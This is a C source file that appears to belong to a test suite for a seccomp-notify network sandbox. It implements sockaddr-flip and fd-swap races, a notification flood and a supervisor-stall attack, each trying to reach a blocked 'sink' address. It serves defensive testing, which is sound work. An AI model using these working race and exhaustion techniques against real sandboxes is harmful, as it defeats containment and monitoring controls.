/* notify_race.c - notify attacks that race the supervisor or load it: N01
 * flips the sockaddr while connect() traps, N02 swaps the fd under
 * pidfd_getfd, N07 floods it with notifications, N08 ties up its workers.
 * The helpers they share with notify.c are in notify_int.h. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"
#include "notify_int.h"

static uint64_t now_us(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000000u + (uint64_t)ts.tv_nsec / 1000u;
}

static bool peer_is(int fd, const struct sockaddr_in *want)
{
	struct sockaddr_in peer;
	socklen_t l = sizeof(peer);
	if (getpeername(fd, (struct sockaddr *)&peer, &l) < 0 || peer.sin_family != AF_INET)
		return false;
	return peer.sin_addr.s_addr == want->sin_addr.s_addr && peer.sin_port == want->sin_port;
}

/* ---- N01: rewrite the sockaddr between the trap and the read --------- */

struct flipper {
	_Atomic bool stop;
	struct sockaddr_in *shared;
	in_addr_t good, bad;
	unsigned long flips;
};

/* Each value is held for a while (about a microsecond): two back-to-back
 * stores leave the bad address visible for a few cycles only, and when the
 * machine is busy and the two threads share a core, connect() would then
 * almost never see it, even without any supervisor (the positive control
 * under `none` would fail). Held values make it about even odds per try. */
#define FLIP_HOLD_SPINS 256

static void flip_hold(void)
{
	for (volatile unsigned k = 0; k < FLIP_HOLD_SPINS; k++)
		;
}

static void *flip_main(void *arg)
{
	struct flipper *f = arg;
	volatile in_addr_t *a = &f->shared->sin_addr.s_addr;
	while (!atomic_load_explicit(&f->stop, memory_order_relaxed)) {
		*a = f->bad;
		flip_hold();
		*a = f->good;
		flip_hold();
		f->flips++;
	}
	return NULL;
}

int n01_toctou(const struct attack_env *env, struct attack_log *log)
{
	static struct sockaddr_in shared; /* one buffer both threads touch */
	struct sockaddr_in sink;
	struct flipper f = {.shared = &shared};
	unsigned long tries = 0, to_proxy = 0, denied = 0, other = 0, escaped = 0;
	uint64_t end = now_us() + 1200000u; /* a 1.2 s budget: ~5000 tries */
	pthread_t th;
	int last_err = 0;

	/* The proxy's address and the sink on the proxy's port: the sockaddr
	 * the supervisor approves, and the one the kernel would use if it
	 * read the buffer again (a CONTINUE design). */
	notify_sockaddr_v4(&shared, env->proxy_host, env->proxy_port);
	notify_sockaddr_v4(&sink, env->sink_v4, env->proxy_port);
	f.good = shared.sin_addr.s_addr;
	f.bad = sink.sin_addr.s_addr;
	if (pthread_create(&th, NULL, flip_main, &f) != 0) {
		attack_step(log, "pthread_create", -1, errno, "flipper");
		return CLAIM_UNSURE;
	}
	attack_note(log, "a second thread flips sin_addr %s <-> %s in the buffer connect() reads",
		    env->proxy_host, env->sink_v4);
	while (now_us() < end && tries < 50000) {
		int fd = notify_bounded_socket(AF_INET, 0, 1000), r, err;
		if (fd < 0) {
			last_err = errno;
			break;
		}
		r = connect(fd, (struct sockaddr *)&shared, sizeof(shared));
		err = errno;
		tries++;
		if (r == 0 && peer_is(fd, &sink)) {
			escaped++;
			if (escaped == 1) {
				ssize_t n = attack_send_marker(env, fd, "N01");
				attack_step(log, "send", n, errno,
					    "marker on a socket connected to the sink");
			}
		} else if (r == 0) {
			to_proxy++;
		} else if (err == EPERM || err == EACCES) {
			denied++;
			last_err = err;
		} else {
			other++;
			last_err = err;
		}
		close(fd);
	}
	atomic_store(&f.stop, true);
	pthread_join(th, NULL);
	attack_step(
	    log, "connect", escaped ? 0 : -1, escaped ? 0 : last_err,
	    "%lu tries in the race: %lu reached the sink, %lu the proxy, %lu denied, %lu other "
	    "errors; %lu flips",
	    tries, escaped, to_proxy, denied, other, f.flips);
	return escaped ? CLAIM_ESCAPED : CLAIM_BLOCKED;
}

/* ---- N02: swap the fd between the trap and pidfd_getfd -------------- */

struct swapper {
	_Atomic bool stop;
	int target;	/* the fd number connect() names */
	int choices[2]; /* a non-socket, and a socket already at the sink (if any) */
	unsigned nchoices;
	unsigned long swaps;
};

static void *swap_main(void *arg)
{
	struct swapper *s = arg;
	while (!atomic_load_explicit(&s->stop, memory_order_relaxed)) {
		dup2(s->choices[s->swaps % s->nchoices], s->target);
		s->swaps++;
	}
	return NULL;
}

int n02_dup2_race(const struct attack_env *env, struct attack_log *log)
{
	struct sockaddr_in proxy, sink;
	struct swapper sw = {.target = 200};
	unsigned long tries = 0, ok = 0, notsock = 0, isconn = 0, denied = 0, other = 0,
		      escaped = 0;
	uint64_t end = now_us() + 1200000u; /* a 1.2 s budget: ~5000 tries */
	int devnull = open("/dev/null", O_RDWR | O_CLOEXEC), at_sink, r, err;
	pthread_t th;

	notify_sockaddr_v4(&proxy, env->proxy_host, env->proxy_port);
	notify_sockaddr_v4(&sink, env->sink_v4, 443);
	/* A socket at the sink, if anything lets one exist: the swap would
	 * make the supervisor act on it instead of the one it checked. */
	at_sink = notify_bounded_socket(AF_INET, 0, 1000);
	r = at_sink >= 0 ? connect(at_sink, (struct sockaddr *)&sink, sizeof(sink)) : -1;
	err = errno;
	attack_step(log, "connect", r, err, "%s:443 (a socket to swap in)", env->sink_v4);
	sw.choices[sw.nchoices++] = devnull;
	if (r == 0)
		sw.choices[sw.nchoices++] = at_sink;
	if (pthread_create(&th, NULL, swap_main, &sw) != 0) {
		attack_step(log, "pthread_create", -1, errno, "swapper");
		return CLAIM_UNSURE;
	}
	attack_note(log, "a second thread dup2()s %s over fd %d while connect(fd %d, proxy) traps",
		    r == 0 ? "/dev/null and a sink-connected socket" : "/dev/null", sw.target,
		    sw.target);
	while (now_us() < end && tries < 50000) {
		int s = notify_bounded_socket(AF_INET, 0, 1000);
		if (s < 0)
			break;
		dup2(s, sw.target);
		close(s);
		r = connect(sw.target, (struct sockaddr *)&proxy, sizeof(proxy));
		err = errno;
		tries++;
		if (r == 0 || err == EISCONN) {
			if (peer_is(sw.target, &sink)) {
				if (!escaped++) {
					ssize_t n = attack_send_marker(env, sw.target, "N02");
					attack_step(log, "send", n, errno,
						    "marker on the swapped-in socket");
				}
			} else if (r == 0) {
				ok++;
			} else {
				isconn++;
			}
		} else if (err == ENOTSOCK) {
			notsock++;
		} else if (err == EPERM || err == EACCES) {
			denied++;
		} else {
			other++;
		}
	}
	atomic_store(&sw.stop, true);
	pthread_join(th, NULL);
	attack_step(log, "connect", escaped ? 0 : -1, escaped ? 0 : EPERM,
		    "%lu tries: %lu connected to the proxy, %lu ENOTSOCK (a non-socket at the fd), "
		    "%lu EISCONN, %lu denied, %lu other; %lu swaps; %lu at the sink",
		    tries, ok, notsock, isconn, denied, other, sw.swaps, escaped);
	close(devnull);
	if (at_sink >= 0)
		close(at_sink);
	return escaped ? CLAIM_ESCAPED : CLAIM_BLOCKED;
}

/* ---- N07: a flood of notifications ---------------------------------- */

#define FLOOD_THREADS 32

struct flood {
	const struct attack_env *env;
	struct sockaddr_in proxy, sink;
	uint64_t end;
	_Atomic unsigned long ok, denied, other, escaped, sends;
	_Atomic unsigned long lat_n;
	uint32_t lat[FLOOD_THREADS * 4096]; /* microseconds, sampled */
	_Atomic bool marked;
};

static void *flood_main(void *arg)
{
	struct flood *f = ((void **)arg)[0];
	long idx = (long)((void **)arg)[1];
	int kind = (int)(idx % 3), sv[2] = {-1, -1};
	char b[64] = "x";

	if (kind == 2 && socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sv) < 0)
		kind = 0;
	while (now_us() < f->end) {
		uint64_t t0 = now_us();
		if (kind == 2) {
			/* send and receive on a socketpair: a notification each */
			if (send(sv[0], b, sizeof(b), MSG_NOSIGNAL) == (ssize_t)sizeof(b) &&
			    recv(sv[1], b, sizeof(b), 0) == (ssize_t)sizeof(b))
				f->sends++;
			else
				f->other++;
		} else {
			/* Once the sink has taken a connection (the marker is out),
			 * the sink threads flood the proxy too: more traffic to
			 * the sink would only swamp the wan-side capture. */
			bool to_sink = kind == 1 && !atomic_load(&f->marked);
			const struct sockaddr_in *to = to_sink ? &f->sink : &f->proxy;
			int fd = notify_bounded_socket(AF_INET, 0, 1000), r, err;
			if (fd < 0) {
				f->other++;
				continue;
			}
			r = connect(fd, (const struct sockaddr *)to, sizeof(*to));
			err = errno;
			if (r == 0 && to_sink) {
				f->escaped++;
				if (!atomic_exchange(&f->marked, true))
					attack_send_marker(f->env, fd, "N07");
			} else if (r == 0) {
				f->ok++;
			} else if (err == EPERM || err == EACCES) {
				f->denied++;
			} else {
				f->other++;
			}
			close(fd);
		}
		unsigned long i = atomic_fetch_add(&f->lat_n, 1);
		if (i < sizeof(f->lat) / sizeof(f->lat[0]))
			f->lat[i] = (uint32_t)(now_us() - t0);
	}
	if (sv[0] >= 0) {
		close(sv[0]);
		close(sv[1]);
	}
	return NULL;
}

static int cmp_u32(const void *a, const void *b)
{
	uint32_t x = *(const uint32_t *)a, y = *(const uint32_t *)b;
	return x < y ? -1 : x > y;
}

int n07_flood(const struct attack_env *env, struct attack_log *log)
{
	static struct flood f;
	pthread_t th[FLOOD_THREADS];
	void *args[FLOOD_THREADS][2];
	unsigned long n;
	uint64_t t0 = now_us();
	int started = 0;

	memset(&f, 0, sizeof(f));
	f.env = env;
	notify_sockaddr_v4(&f.proxy, env->proxy_host, env->proxy_port);
	notify_sockaddr_v4(&f.sink, env->sink_v4, env->proxy_port);
	f.end = t0 + 1000000u; /* 1 s of flood: ~10 000 mediated calls */
	for (long i = 0; i < FLOOD_THREADS; i++) {
		args[i][0] = &f;
		args[i][1] = (void *)i;
		if (pthread_create(&th[i], NULL, flood_main, args[i]) == 0)
			started++;
	}
	for (int i = 0; i < started; i++)
		pthread_join(th[i], NULL);
	n = atomic_load(&f.lat_n);
	if (n > sizeof(f.lat) / sizeof(f.lat[0]))
		n = sizeof(f.lat) / sizeof(f.lat[0]);
	qsort(f.lat, n, sizeof(f.lat[0]), cmp_u32);
	attack_step(log, "connect", f.escaped ? 0 : -1, f.escaped ? 0 : EPERM,
		    "%d threads for %.1f s (1/3 to the proxy, 1/3 to %s:%u, 1/3 send+recv on a "
		    "socketpair): %lu proxy connects, %lu denied, %lu at the sink, %lu send/recv "
		    "pairs, %lu other errors",
		    started, (double)(now_us() - t0) / 1e6, env->sink_v4, env->proxy_port,
		    (unsigned long)f.ok, (unsigned long)f.denied, (unsigned long)f.escaped,
		    (unsigned long)f.sends, (unsigned long)f.other);
	if (n)
		attack_note(log,
			    "per-call latency under the flood: p50 %u us, p99 %u us, max %u us "
			    "(%lu calls, %.0f calls/s)",
			    f.lat[n / 2], f.lat[n * 99 / 100], f.lat[n - 1], n,
			    (double)n / ((double)(now_us() - t0) / 1e6));
	return f.escaped ? CLAIM_ESCAPED : CLAIM_BLOCKED;
}

/* ---- N08: make the supervisor wait ---------------------------------- */

#define STALL_THREADS 80

struct stall {
	struct sockaddr_in to;
	_Atomic unsigned long blocked_done, overload, other;
};

static void *stall_main(void *arg)
{
	struct stall *s = arg;
	/* No SO_SNDTIMEO: a blocking connect into a full accept queue waits
	 * for SYN retries (minutes); the attack exits long before. */
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	int r = fd >= 0 ? connect(fd, (struct sockaddr *)&s->to, sizeof(s->to)) : -1;
	/* The supervisor's answer when no worker is left to wait: EINPROGRESS
	 * (what a blocking connect past SO_SNDTIMEO returns), or EAGAIN. */
	if (r < 0 && (errno == EINPROGRESS || errno == EAGAIN))
		s->overload++;
	else if (r < 0)
		s->other++;
	else
		s->blocked_done++;
	return NULL;
}

static double median_connect_us(const struct sockaddr_in *to, int n, bool nonblocking, int *fails,
				int *last_err)
{
	uint32_t v[64];
	int k = 0;

	*fails = 0;
	for (int i = 0; i < n && i < 64; i++) {
		int fd = notify_bounded_socket(AF_INET, 0, 1000), r;
		uint64_t t0 = now_us();
		if (fd < 0)
			break;
		if (nonblocking)
			fcntl(fd, F_SETFL, O_NONBLOCK);
		r = connect(fd, (const struct sockaddr *)to, sizeof(*to));
		if (r < 0 && errno != EINPROGRESS) {
			(*fails)++;
			*last_err = errno;
		}
		v[k++] = (uint32_t)(now_us() - t0);
		close(fd);
	}
	qsort(v, (size_t)k, sizeof(v[0]), cmp_u32);
	return k ? v[k / 2] : 0;
}

int n08_stall(const struct attack_env *env, struct attack_log *log)
{
	static struct stall s;
	struct sockaddr_in proxy, sink, lo = {.sin_family = AF_INET};
	socklen_t l = sizeof(lo);
	pthread_t th[STALL_THREADS];
	int lfd, r, err, fails = 0, last = 0, started = 0;
	double base, during, during_nb;
	uint64_t t0;

	memset(&s, 0, sizeof(s));
	notify_sockaddr_v4(&proxy, env->proxy_host, env->proxy_port);
	notify_sockaddr_v4(&sink, env->sink_v4, env->proxy_port);
	base = median_connect_us(&proxy, 40, false, &fails, &last);
	attack_note(log, "baseline: blocking connect to the proxy, median %.0f us (%d failed)",
		    base, fails);
	/* A listener that never accepts, backlog 0: after the first
	 * connection the kernel drops SYNs, and a blocking connect to it
	 * waits. 127.0.0.1 is pinned, so each such connect is performed by a
	 * supervisor worker that then waits too. */
	lfd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	lo.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	r = lfd >= 0 ? bind(lfd, (struct sockaddr *)&lo, sizeof(lo)) : -1;
	err = errno;
	attack_step(log, "bind", r, err, "127.0.0.1:0 (mediated: 127.0.0.1 is pinned)");
	if (r == 0) {
		r = listen(lfd, 0);
		attack_step(log, "listen", r, errno, "backlog 0, never accepted");
		getsockname(lfd, (struct sockaddr *)&lo, &l);
		s.to = lo;
		for (int i = 0; i < STALL_THREADS; i++) {
			pthread_attr_t at;
			pthread_attr_init(&at);
			pthread_attr_setstacksize(&at, 64 * 1024);
			if (pthread_create(&th[i], &at, stall_main, &s) == 0)
				started++;
			pthread_attr_destroy(&at);
		}
		usleep(300000);
		attack_note(
		    log,
		    "%d threads connect (blocking) to 127.0.0.1:%u: after 300 ms, %lu "
		    "returned connected, %lu EINPROGRESS/EAGAIN at once (no supervisor worker "
		    "left to wait), %lu "
		    "other; the rest are waiting",
		    started, ntohs(lo.sin_port), (unsigned long)s.blocked_done,
		    (unsigned long)s.overload, (unsigned long)s.other);
	}
	during = median_connect_us(&proxy, 20, false, &fails, &last);
	attack_note(log,
		    "while they wait: blocking connect to the proxy, median %.0f us, %d of 20 "
		    "failed (last %s)",
		    during, fails, fails ? strerror(last) : "-");
	during_nb = median_connect_us(&proxy, 20, true, &fails, &last);
	attack_note(log,
		    "while they wait: non-blocking connect to the proxy, median %.0f us, %d "
		    "of 20 failed",
		    during_nb, fails);
	/* The point: does anything fail open while the supervisor is busy? */
	t0 = now_us();
	r = notify_connect_and_mark(env, log, AF_INET, 0, env->sink_v4, env->proxy_port, "N08");
	attack_note(log, "connect to the sink answered in %llu us",
		    (unsigned long long)(now_us() - t0));
	/* Exit with the workers still blocked: the run must end promptly. */
	return r;
}
